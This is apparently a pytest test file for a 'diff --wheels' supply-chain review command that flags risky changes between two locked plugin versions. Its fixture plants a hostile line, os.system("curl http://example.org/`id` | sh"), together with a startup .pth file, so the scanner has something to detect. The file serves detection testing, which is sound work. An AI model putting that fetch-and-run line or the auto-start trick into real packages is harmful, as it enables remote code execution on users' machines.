"""`coral-runtime diff --wheels`: what changed in the files behind two locks."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest

from coral_lock.document.schema import schema_text
from tests.support.device import Outcome
from tests.support.environments import create_environment, install_with_uv
from tests.support.handmade_wheels import make_wheel
from tests.support.in_process import WorkingDirectory

PLUGIN = """from coral_inference.runtime.plugins import PluginSpec


def activate(config):
    return True


spec = PluginSpec(name="lens", activate=activate, description="a lens")
"""

NEW_PLUGIN = PLUGIN.replace(
    "    return True\n", '    os.system("curl http://example.org/`id` | sh")\n    return True\n'
).replace("from coral", "import os\n\nfrom coral")

COMMANDS = "[console_scripts]\nlens-tool = lens:activate\n"


def plugin_wheel(
    directory: Path, version: str, source: str, files: dict[str, str | bytes] | None = None
) -> Path:
    directory.mkdir(exist_ok=True)
    lines = "lens = lens:spec\n"
    return make_wheel(
        directory,
        "lens",
        {"lens.py": source, "lens_data.txt": version, **(files or {})},
        entry_point=lines + (COMMANDS if version == "1.1" else ""),
        version=version,
        requires="numpy" if version == "1.1" else "",
    )


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> WorkingDirectory:
    """Locks of two wheelhouses: the new version of a plugin does more, and brings a library."""
    directory = tmp_path_factory.mktemp("code")
    here = WorkingDirectory(directory=directory)
    plugin_wheel(directory / "old", "1.0", PLUGIN)
    plugin_wheel(
        directory / "new",
        "1.1",
        NEW_PLUGIN,
        {"lens_start.pth": "import lens\n", "lens_fast.so": b"\x7fELF"},
    )
    make_wheel(directory / "new", "numpy", {"numpy/__init__.py": "import ctypes\n"})
    here.write("runtime.yaml", "distributions: {lens: {accept: [pth-file]}}\n")
    for side in ("old", "new"):
        here.coral(
            *("lock", "--wheels", side, "-o", f"{side}.lock", "-c", "runtime.yaml"),
            *("--core-version", "0.0.4"),
        ).require(0)
    return here


def diff(place: WorkingDirectory, *words: str | Path) -> Outcome:
    return place.coral("diff", "old.lock", "new.lock", *words)


CODE = """
code of lens 1.0 → 1.1: 4 files changed, 2 files added
  ! starts programs, os.system: lens.py:7: os.system("curl http://example.org/`id` | sh")
  ! new commands: lens-tool
  ~ lens-1.1.dist-info/METADATA
      @@ -0,0 +1 @@
      +Requires-Dist: numpy
  ~ lens-1.1.dist-info/entry_points.txt
      @@ -1,2 +1,4 @@
       [coral_inference.patches]
       lens = lens:spec
      +[console_scripts]
      +lens-tool = lens:activate
  ~ lens.py
      @@ -1,7 +1,10 @@
      +import os
      +
       from coral_inference.runtime.plugins import PluginSpec
      \x20
      \x20
       def activate(config):
      +    os.system("curl http://example.org/`id` | sh")
           return True
      \x20
      \x20
  ~ lens_data.txt
  + lens_fast.so
  + lens_start.pth
      @@ -0,0 +1 @@
      +import lens

code of numpy 1.0, which is new: 3 files added
  ! calls native code, ctypes: numpy/__init__.py:1: import ctypes
  + numpy-1.0.dist-info/METADATA
  + numpy-1.0.dist-info/WHEEL
  + numpy/__init__.py
      @@ -0,0 +1 @@
      +import ctypes
"""


def test_the_code_follows_the_changes(place: WorkingDirectory) -> None:
    outcome = diff(place, "--wheels", "old", "new").require(0)
    assert outcome.stdout.endswith(CODE)
    assert outcome.stdout.startswith(
        "lens\n"
        "  ! `lens` runs `lens_start.pth` at every start\n"
        "      high risk, startup-file: Python runs it at every start, whoever starts it\n"
        "  ! `lens` newly uses `os.system`\n"
        "      medium risk, suspicious-code: what its code newly uses deserves a look\n"
        "  ! `lens` has native code: `lens_fast.so`\n"
        "      medium risk, native-wheel: there is native code where there was pure Python alone\n"
    )
    assert outcome.stderr == ""


def test_what_is_installed(place: WorkingDirectory, tmp_path: Path) -> None:
    """Two real environments, and the same directories as those of images."""
    environments = []
    for side in ("old", "new"):
        environment = create_environment(tmp_path / side)
        wheels = sorted((place.directory / side).glob("*.whl"))
        install_with_uv(environment, *wheels, wheelhouse=place.directory / side, no_deps=True)
        environments.append(environment)
    old, new = environments
    for words in (
        ("--python", old.root, new.root),
        ("--site-packages", old.site_packages, new.site_packages),
    ):
        outcome = diff(place, *words)
        assert (outcome.code, outcome.stderr) == (0, "")
        assert outcome.stdout.endswith(CODE)
    source = new.site_packages / "lens.py"
    source.write_text(source.read_text() + "# other\n")
    outcome = diff(place, *words).require(3)
    assert "code of lens" not in outcome.stdout
    assert "code of numpy" in outcome.stdout
    assert outcome.stderr == (
        "error[digest-mismatch]: the files of `lens` 1.1 aren't those that were locked: "
        "`lens.py` of `lens` isn't the file that its RECORD states\n"
        f"  where: {source}\n"
        "  hint: install `lens` from the wheel that was locked, and find out who changed it\n"
    )


def test_data_for_programs(place: WorkingDirectory) -> None:
    outcome = diff(place, "--wheels", "old", "new", "--output-format", "json").require(0)
    document = json.loads(outcome.stdout)
    jsonschema.validate(document, json.loads(schema_text("diff")))
    assert document["findings"] == []
    lens, numpy = document["code"]
    assert lens["uses"] == [
        {
            "capability": "programs",
            "name": "os.system",
            "path": "lens.py",
            "line": 7,
            "text": 'os.system("curl http://example.org/`id` | sh")',
        }
    ]
    assert (lens["commands"], numpy["old_version"]) == (["lens-tool"], None)


def test_every_format_tells_the_risks(place: WorkingDirectory) -> None:
    for form in ("github", "gitlab", "html", "markdown", "sarif"):
        outcome = diff(place, "--wheels", "old", "new", "--output-format", form).require(0)
        assert "startup-file" in outcome.stdout
    for risk in ("startup-file", "suspicious-code", "native-wheel", "new-command"):
        diff(place, "--wheels", "old", "new", "--fail-on", risk).require(1)
        diff(place, "--fail-on", risk).require(0)


def test_other_bytes_than_the_locked_ones(place: WorkingDirectory, tmp_path: Path) -> None:
    wheel = plugin_wheel(tmp_path, "1.1", PLUGIN)
    outcome = diff(place, "--wheels", "old", tmp_path).require(3)
    assert f"  where: {wheel}\n" in outcome.stderr
    assert outcome.stderr.startswith(
        "error[digest-mismatch]: the wheel of `lens` 1.1 isn't the one that was locked\n"
    )
    # The side that has no wheel of another distribution is said where its code would be.
    assert outcome.stdout.endswith(
        "\ncode of numpy 1.0, which is new: no file compared\n"
        "  ! not compared, new side: the wheelhouse has no wheel of `numpy` 1.0 with the locked "
        "wheel tag, `py3-none-any`\n"
    )


def test_what_is_not_at_hand_fails_a_check(place: WorkingDirectory, tmp_path: Path) -> None:
    (tmp_path / "unrelated.whl").touch()
    outcome = diff(place, "--wheels", tmp_path, "new", "--fail-on", "unseen-code").require(1)
    assert "  ! `lens` isn't compared\n" in outcome.stdout


def test_places_exclude_each_other(place: WorkingDirectory) -> None:
    outcome = diff(place, "--wheels", "old", "new", "--python", "a", "b").require(2)
    assert outcome.stderr.startswith("error: `--python` and `--wheels` are mutually exclusive\n")


def test_nothing_to_look_into(place: WorkingDirectory) -> None:
    other = (place.directory / "old.lock").read_text().replace("a lens", "one lens")
    place.write("other.lock", other)
    outcome = place.coral("diff", "old.lock", "other.lock", "--wheels", "old", "old").require(0)
    assert outcome.stderr == "no distribution has other files\n"
